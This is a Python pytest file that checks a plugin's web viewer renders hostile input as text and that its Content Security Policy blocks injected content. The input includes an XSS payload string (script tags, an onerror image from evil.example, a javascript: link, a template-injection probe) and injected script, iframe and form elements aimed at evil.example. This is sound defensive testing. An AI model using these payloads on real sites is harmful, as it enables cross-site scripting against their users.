"""What other people wrote stays text: in names, answers, reasons, ids, paths and notes; and the policy that
would hold, were something forgotten, is one that the browser keeps.
"""

import json
import re
from urllib.parse import quote

import pytest

from spr_plugin import runs

EVIL = (
    '"><script>alert(1)</script><img src=http://evil.example/x onerror=alert(2)><svg onload=alert(3)>'
    "<a href=javascript:alert(4)>'</textarea></title><style>*{display:none}</style>{{ 77771*77773 }}"
)


@pytest.fixture
def hostile(output, tmp_path):
    """The same run as somebody sends it who means harm."""
    written = tmp_path / "out"
    for stage in ("queries", "candidates", "scores", "pairs"):
        log = runs.open(output).folder.log(stage)
        text = log.path.read_text()
        for word in ("coffee", "motorcycle", "plain", "no_box", "some things"):
            text = text.replace(word, json.dumps(EVIL)[1:-1] + word)
        lines = [json.loads(re.sub(r', "crc": "\w{8}"}$', "}", line)) for line in text.splitlines()]
        if stage == "pairs":
            lines = [{**line, "id": f"{EVIL}{line['id']}"} for line in lines]
        (written / "spr").mkdir(parents=True, exist_ok=True)
        for file in runs.open(output).folder.path.glob("*.json"):
            (written / "spr" / file.name).write_bytes(file.read_bytes())
        runs.open(written).folder.log(stage).write(lines)
    return written


def test_hostile_names_texts_ids_paths_and_notes_are_text(hostile, serve_run, visit):
    run = runs.open(hostile)
    pairs = [pair for pair in run.pairs if "evil.example" in pair.chosen]
    assert pairs
    with serve_run(hostile) as site:
        page = visit(site + "/")
        assert EVIL in page.inner_text("#rows")
        for pair in pairs[:2]:
            page.goto(f"{site}/pair/{quote(pair.id, safe='')}")
            assert pair.chosen in page.inner_text("#side-chosen")
            for phrase in page.locator(".side .phrase").all()[:5]:
                phrase.hover()
            page.get_by_label("Note").fill(EVIL)
            with page.expect_navigation():
                page.get_by_role("button", name="Mark as bad").click()
            assert page.get_by_label("Note").input_value() == EVIL
            page.goto(f"{site}/query/{pair.query}")
            assert EVIL in page.inner_text("main")
        for name in ("text", "category", "state", "reason", "low", "sort", "page"):
            page.goto(f"{site}/?{name}={quote(EVIL, safe='')}")
            assert page.locator("h1").is_visible()
        assert str(77771 * 77773) not in page.content()


def test_the_policy_holds_what_a_page_should_never_have(site, browser):
    """A script, a picture, a style, a frame and a form of somebody else's, put into the page by hand."""
    context = browser.new_context()
    page = context.new_page()
    reached = []
    page.on("requestfinished", lambda request: reached.append(request.url))
    page.on("requestfailed", lambda request: "csp" in request.failure.lower() or reached.append(request.url))
    page.goto(site + "/")
    page.evaluate(
        """() => {
            window.broken = [];
            const note = (one) => broken.push(one.effectiveDirective);
            document.addEventListener("securitypolicyviolation", note);
            const add = (html) => document.body.append(document.createRange().createContextualFragment(html));
            add("<script>window.ran = 1</script>");
            add("<script src='http://evil.example/x.js'></script>");
            add("<img src='http://evil.example/x.png'>");
            add("<style>body { color: red }</style>");
            add("<iframe src='http://evil.example/'></iframe>");
            add("<form action='http://evil.example/'><button id=evil>x</button></form>");
            fetch("http://evil.example/").catch(() => {});
        }"""
    )
    page.evaluate("document.getElementById('evil').click()")
    page.wait_for_timeout(300)
    broken = page.evaluate("broken")
    assert {name.partition("-")[0] for name in broken} >= {
        "script",
        "img",
        "style",
        "frame",
        "connect",
        "form",
    }
    assert page.evaluate("window.ran") is None and all(address.startswith(site) for address in reached), (
        reached
    )
    context.close()
